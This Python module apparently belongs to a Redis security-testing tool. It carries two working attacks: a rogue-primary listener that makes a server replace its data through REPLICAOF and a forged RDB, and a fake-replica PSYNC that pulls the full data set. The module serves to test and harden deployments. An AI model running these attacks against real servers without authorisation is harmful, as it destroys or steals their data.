# Copyright: (c) 2026, The rampart.redis contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks 4 and 5: replication as a weapon, in both directions."""

from __future__ import annotations

import socket
import threading
import time
from contextlib import contextmanager
from typing import TYPE_CHECKING

from .doors import PATIENCE, attempt, everyone
from .model import CannotRunError, Outcome, RefusedError
from .resp import Connection

if TYPE_CHECKING:
    from collections.abc import Iterator

    from .model import Target

KEY = "app:attack:rogue"
VALUE = "data of a rogue primary"
SYNC_SECONDS = 30.0  # Redis waits 5 s for further replicas before it sends


def _text(value: str) -> bytes:
    return bytes([len(value)]) + value.encode()


# An RDB with one string; the zero checksum says "not computed".
RDB = b"REDIS0009\xfe\x00\x00" + _text(KEY) + _text(VALUE) + b"\xff" + bytes(8)


class RoguePrimary:
    """A listener that plays a primary for one replica and hands it our RDB."""

    def __init__(self, address: str) -> None:
        self._server = socket.create_server((address, 0))
        self._server.settimeout(SYNC_SECONDS)
        self.address, self.port = self._server.getsockname()[:2]
        self.visitors = 0
        self._done = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def start(self) -> None:
        """Begin to listen."""
        self._thread.start()

    def stop(self) -> None:
        """Stop listening, hang up and wait for the thread."""
        self._done.set()
        self._server.shutdown(socket.SHUT_RDWR)
        self._thread.join(PATIENCE)
        self._server.close()

    def _serve(self) -> None:
        while not self._done.is_set():
            try:
                sock, _peer = self._server.accept()
            except OSError:
                return
            self.visitors += 1
            with Connection(sock, "rogue primary") as replica:
                try:
                    self._talk(sock, replica)
                except (RefusedError, CannotRunError, OSError):
                    continue  # the replica hung up: wait for the next try

    def _talk(self, sock: socket.socket, replica: Connection) -> None:
        while not self._done.is_set():
            request = replica.read()
            command = str(request[0]).upper() if isinstance(request, list) and request else ""
            if command == "PSYNC":
                sock.sendall(b"+FULLRESYNC " + b"a" * 40 + b" 1\r\n$%d\r\n" % len(RDB) + RDB)
            elif "ACK" not in str(request):  # an acknowledgement is not answered
                sock.sendall(b"+PONG\r\n" if command == "PING" else b"+OK\r\n")


@contextmanager
def rogue_primary(address: str) -> Iterator[RoguePrimary]:
    """Listen as long as the block runs."""
    rogue = RoguePrimary(address)
    rogue.start()
    try:
        yield rogue
    finally:
        rogue.stop()


def follow_rogue(target: Target) -> Outcome:
    """REPLICAOF to a listener of ours: the server connects out and replaces its data by ours."""
    with rogue_primary(target.own_address) as rogue:

        def probe(connection: Connection) -> str:
            connection.ask("REPLICAOF", rogue.address, rogue.port)
            try:
                return _loaded(connection)
            finally:
                connection.call("REPLICAOF", "NO", "ONE")

        outcome = attempt(everyone(target), probe)
        if not outcome.succeeded and rogue.visitors:
            return Outcome(succeeded=True, evidence="REPLICAOF was refused, yet the server connected to our listener")
        return outcome


def _loaded(connection: Connection) -> str:
    deadline = time.monotonic() + SYNC_SECONDS
    while time.monotonic() < deadline:
        if connection.call("GET", KEY) == VALUE:
            return "the server connected to our listener and loaded our data in place of its own"
        time.sleep(0.2)
    raise CannotRunError("REPLICAOF was accepted, but our data was not loaded in time")


def steal_by_psync(target: Target) -> Outcome:
    """PSYNC as a fake replica: the whole data set arrives."""
    return attempt(everyone(target), _steal)


def _steal(connection: Connection) -> str:
    connection.patience(SYNC_SECONDS)
    connection.ask("REPLCONF", "capa", "eof", "capa", "psync2")
    connection.ask("PSYNC", "?", "-1")
    header = ""
    while not header:  # empty lines until the transfer begins
        header = connection.line()
    start = connection.raw(9).decode(errors="replace")
    if not start.startswith(("REDIS", "VALKEY")):
        raise CannotRunError(f"PSYNC was accepted, but no RDB arrived: {header!r} {start!r}")
    return f"the data set arrives as an RDB ({start})"
